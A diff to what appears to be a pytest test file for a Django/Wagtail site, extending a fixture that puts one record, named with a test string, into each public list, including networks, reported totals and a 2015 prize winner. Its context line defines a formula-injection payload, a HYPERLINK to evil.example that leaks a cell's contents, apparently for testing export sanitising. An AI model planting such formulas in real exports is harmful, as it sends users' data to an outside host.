@@ -8,8 +8,10 @@ HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 @pytest.fixture
 def every_list(db):
     """One record in each public list, each named with `name`: a participant, a verified
-    signature, an event, a published practice, an adopted text, a programme participation, and a
-    published action plan with one measure and a published progress report."""
+    signature, an event, a published practice, an adopted text, a programme participation and a
+    total reported for its country, a member of its country's national network, a winner of the
+    2015 Dosta! prize, and a published action plan with one measure and a published progress
+    report."""
     from wagtail.models import Locale
 
     from alliance.actionplans.models import ActionPlan, Measure, MeasureProgress, ProgressReport
@@ -19,10 +21,12 @@ def every_list(db):
     from alliance.declaration.models import Signature, Status
     from alliance.events.models import Event
     from alliance.library.models import AdoptedText
+    from alliance.networks.models import NationalNetwork, NetworkMembership
     from alliance.participants.models import Participation
     from alliance.practices.models import GoodPractice
     from alliance.practices.models import Status as PracticeStatus
-    from alliance.programmes.models import Phase, Programme, ProgrammeParticipation
+    from alliance.prizes.models import PrizeEdition, PrizeWinner
+    from alliance.programmes.models import Phase, Programme, ProgrammeParticipation, ReportedTotal
 
     def make(name, code="AL", slug="hostile-town", adopted_on=datetime.date(2014, 3, 26)):
         ensure_countries()
@@ -67,6 +71,29 @@ def every_list(db):
         ProgrammeParticipation.objects.create(
             programme=programme, phase=phase, authority=authority, joined_on=datetime.date(2014, 1, 1)
         )
+        ReportedTotal.objects.create(
+            programme=programme,
+            phase=phase,
+            country=country,
+            period_start=datetime.date(2014, 1, 1),
+            period_end=datetime.date(2014, 12, 31),
+            municipalities=Participation.objects.count() + 10,
+            source_en=name,
+        )
+        network, _ = NationalNetwork.objects.get_or_create(
+            slug=f"network-{code.lower()}",
+            defaults={
+                "name_en": name,
+                "name_fr": name,
+                "country": country,
+                "founded_on": datetime.date(2016, 3, 1),
+            },
+        )
+        NetworkMembership.objects.create(
+            network=network, authority=authority, founding_member=True, joined_on=datetime.date(2016, 3, 1)
+        )
+        edition, _ = PrizeEdition.objects.get_or_create(year=2015, defaults={"summary_en": name})
+        PrizeWinner.objects.create(edition=edition, authority=authority, citation_en=name)
         published = datetime.datetime(2024, 3, 1, tzinfo=datetime.UTC)
         plan = ActionPlan.objects.create(
             authority=authority,
